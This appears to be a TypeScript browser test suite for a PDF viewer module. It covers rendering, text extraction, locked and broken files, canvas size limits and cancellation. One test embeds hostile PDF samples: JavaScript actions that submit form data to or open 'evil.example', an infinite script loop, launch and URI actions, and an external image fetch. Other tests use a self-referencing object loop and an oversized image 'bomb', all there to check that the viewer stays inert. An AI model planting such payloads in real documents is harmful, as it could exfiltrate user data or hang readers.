import { expect } from 'chai';
import { lockedPdf, pdf } from '../../test/support/pdf.ts';
import { openPdf, PdfFault, type PdfPages } from './pdf.ts';

const never = new AbortController().signal;
const bytesOf = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const kindOf = async (work: Promise<unknown>): Promise<unknown> => work.then(() => 'fine', (error: unknown) => (error instanceof PdfFault ? error.kind : error));

/** Share of the pixels of a canvas that are not white. */
function inked(canvas: HTMLCanvasElement): number {
  const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
  let count = 0;
  for (let at = 0; at < data.length; at += 4) if (data[at]! < 200 || data[at + 1]! < 200 || data[at + 2]! < 200) count++;
  return count / (data.length / 4);
}

/** The colour in the middle. */
const middle = (canvas: HTMLCanvasElement): number[] => [...canvas.getContext('2d')!.getImageData(canvas.width >> 1, canvas.height >> 1, 1, 1).data].slice(0, 3);

let copies = 0;
/** As a page loads it that has not tried yet what it may start. */
const fresh = (): Promise<typeof import('./pdf.ts')> => import(new URL(`./pdf.ts?copy=${++copies}`, import.meta.url).href) as Promise<typeof import('./pdf.ts')>;

describe('what reads a PDF', () => {
  const native = globalThis.Worker;
  afterEach(() => {
    globalThis.Worker = native;
  });
  const shows = async (module: typeof import('./pdf.ts')): Promise<void> => {
    const pages = await module.openPdf(pdf([{ text: 'Read' }]), never);
    expect(inked((await pages.draw(1, 300, never)).canvas)).to.be.above(0);
    expect(await pages.text(1)).to.equal('Read');
    expect(await kindOf(module.openPdf(lockedPdf(), never).catch((error: Error) => Promise.reject(error.message === 'locked' ? new PdfFault('locked') : error)))).to.equal('locked');
    pages.close();
  };

  it('is beside the page, and gone when it is closed', async () => {
    let [started, ended] = [0, 0];
    globalThis.Worker = class extends native {
      constructor(url: string | URL, options?: WorkerOptions) {
        super(url, options);
        started++;
      }
      override terminate(): void {
        super.terminate();
        ended++;
      }
    };
    await shows(await fresh());
    expect([started, ended]).to.deep.equal([2, 2]);
    expect((globalThis as Record<string, unknown>)['pdfjsWorker']).to.equal(undefined);
  });

  it('is in the page where no worker may be started, without a word to the console', async () => {
    const { warn } = console;
    const words: unknown[] = [];
    console.warn = (...said: unknown[]): void => void words.push(said);
    globalThis.Worker = function refuse() {
      throw new DOMException('', 'SecurityError');
    } as unknown as typeof Worker;
    const scope = globalThis as Record<string, unknown>;
    const own = (scope['pdfjsWorker'] = { WorkerMessageHandler: 'of the host' });
    try {
      await shows(await fresh());
      expect(scope['pdfjsWorker']).to.equal(own);
      expect(words).to.deep.equal([]);
    } finally {
      console.warn = warn;
      delete scope['pdfjsWorker'];
    }
  });

  it('is in the page where the worker is not where it should be, and that is not tried twice', async () => {
    let tried = 0;
    globalThis.Worker = class extends native {
      constructor() {
        super(new URL('./nothing-is-here.js', import.meta.url), { type: 'module' });
        tried++;
      }
    };
    const module = await fresh();
    await shows(module);
    await shows(module);
    expect(tried).to.equal(1);
  });
});

describe('a PDF', () => {
  let pages: PdfPages | undefined;
  let heard: string[];
  const listening = new PerformanceObserver((list) => heard.push(...list.getEntries().map(({ name }) => name)));
  const violated = ({ blockedURI, effectiveDirective }: SecurityPolicyViolationEvent): number => heard.push(`${effectiveDirective} ${blockedURI}`);
  before(async () => {
    // What draws is loaded with the first; what is asked for after that is asked for by a document.
    (await openPdf(pdf([{}]), never)).close();
  });
  beforeEach(() => {
    heard = [];
    listening.observe({ entryTypes: ['resource'] });
    document.addEventListener('securitypolicyviolation', violated);
  });
  afterEach(() => {
    pages?.close();
    pages = undefined;
    listening.disconnect();
    document.removeEventListener('securitypolicyviolation', violated);
  });
  const open = async (bytes: Uint8Array): Promise<PdfPages> => (pages = await openPdf(bytes, never));

  it('is drawn page by page, as wide as is asked for, and read as text', async () => {
    const { count, draw, text } = await open(pdf([{ text: 'Invoice 2026-11' }, { text: 'Second (of two)', width: 600 }]));
    expect(count).to.equal(2);
    const first = await draw(1, 450, never);
    expect([first.canvas.width, first.canvas.height, first.width, first.height]).to.deep.equal([450, 600, 300, 400]);
    expect(inked(first.canvas)).to.be.within(0.002, 0.2);
    const second = await draw(2, 450, never);
    expect([second.canvas.width, second.canvas.height]).to.deep.equal([450, 300]);
    expect([await text(1), await text(2)]).to.deep.equal(['Invoice 2026-11', 'Second (of two)']);
  });

  it('adds no fonts to the page, and leaves its names alone', async () => {
    const scope = globalThis as Record<string, unknown>;
    const fonts = document.fonts.size;
    const { draw } = await open(pdf([{ text: 'Letters' }]));
    await draw(1, 300, never);
    expect(document.fonts.size).to.equal(fonts);
    expect([scope['pdfjsLib'], scope['pdfjsWorker']]).to.deep.equal([undefined, undefined]);
  });

  it('wider than can be drawn is drawn coarser', async () => {
    const { draw } = await open(pdf([{ width: 14_400, height: 14_400 }, { width: 14_400, height: 3 }, { width: 1, height: 14_400 }]));
    for (const page of [1, 2, 3]) {
      const { canvas: { width, height } } = await draw(page, 1_000_000, never);
      expect(width * height).to.be.within(1, 16_777_216);
      expect(Math.max(width, height)).to.be.at.most(8192);
    }
  });

  it('says what it cannot be shown for', async () => {
    expect(await kindOf(open(lockedPdf()))).to.equal('locked');
    const good = pdf([{ text: 'Whole' }]);
    for (const bad of [bytesOf('%PDF-1.7\nnothing of the kind'), bytesOf('%PDF-'), good.slice(0, 60), Uint8Array.from(good, (byte, index) => (index > 20 ? byte ^ 0x5a : byte))])
      expect(await kindOf(open(bad))).to.equal('broken');
  });

  it('that is only damaged at its end is shown all the same', async () => {
    const good = pdf([{ text: 'Whole enough' }]);
    const { count, text } = await open(good.slice(0, -20));
    expect([count, await text(1)]).to.deep.equal([1, 'Whole enough']);
  });

  it('one page of which is missing shows the others', async () => {
    const { draw, text } = await open(pdf([{ text: 'First' }, { text: 'Second' }], { kids: '100 0 R 99 0 R' }));
    expect(await text(1)).to.equal('First');
    expect(await kindOf(draw(2, 300, never))).to.equal('broken');
    expect(inked((await draw(1, 300, never)).canvas)).to.be.above(0);
  });

  it('runs nothing, follows nothing and fetches nothing', async () => {
    const scripts = ['/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>', '/AA << /WC << /S /JavaScript /JS (app.launchURL\\("https://evil.example/"\\)) >> >>', '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\);) >>] >> >>'];
    const evil = location.origin;
    const { draw, text } = await open(pdf([{
      text: 'Harmless',
      more: `/AA << /O << /S /URI /URI (${evil}/asked-by-pdf) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /Launch /F (${evil}/asked-by-pdf) >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [10 10 90 40] /AA << /K << /S /JavaScript /JS (x) >> >> >>]`,
      content: '/X1 Do',
    }], { catalog: scripts.join(' '), objects: [`<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F (${evil}/asked-by-pdf) /FFilter /DCTDecode /Length 0 >>\nstream\n\nendstream`] }));
    const elements = document.querySelectorAll('*').length;
    await draw(1, 300, never);
    expect(await text(1)).to.equal('Harmless');
    expect(document.querySelectorAll('*').length).to.equal(elements);
    expect(heard.filter((name) => !/\/(?:src|node_modules|test|__)/.test(name))).to.deep.equal([]);
  });

  it('that refers to itself comes to an end', async () => {
    const loop = '<< /Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << /X1 10 0 R >> >> /Length 6 >>\nstream\n/X1 Do\nendstream';
    const { draw } = await open(pdf([{ content: '0 0 1 rg 0 0 300 400 re f /X1 Do' }], { objects: [loop] }));
    expect(await kindOf(draw(1, 300, never))).to.be.oneOf(['fine', 'broken']);
    expect(await kindOf(open(pdf([{}], { kids: '2 0 R' })).then(({ draw: drawn }) => drawn(1, 300, never)))).to.equal('broken');
  });

  it('with a picture larger than anybody can look at is shown without it', async () => {
    const bomb = '<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 4 >>\nstream\nabcd\nendstream';
    const { draw } = await open(pdf([{ content: '1 0 0 rg 0 0 300 400 re f q 300 0 0 400 0 0 cm /X1 Do Q' }], { objects: [bomb] }));
    expect(middle((await draw(1, 300, never)).canvas)).to.deep.equal([255, 0, 0]);
  });

  it('is given up with its signal, and closed while it is drawn', async () => {
    const stop = new AbortController();
    const reason = new Error('hidden');
    stop.abort(reason);
    expect(await openPdf(pdf([{}]), stop.signal).catch((error: unknown) => error)).to.equal(reason);
    const opened = await open(pdf([{ text: 'Gone' }]));
    const late = new AbortController();
    const drawing = opened.draw(1, 300, late.signal).catch((error: unknown) => error);
    late.abort(reason);
    expect(await drawing).to.equal(reason);
    opened.close();
    opened.close();
  });
});
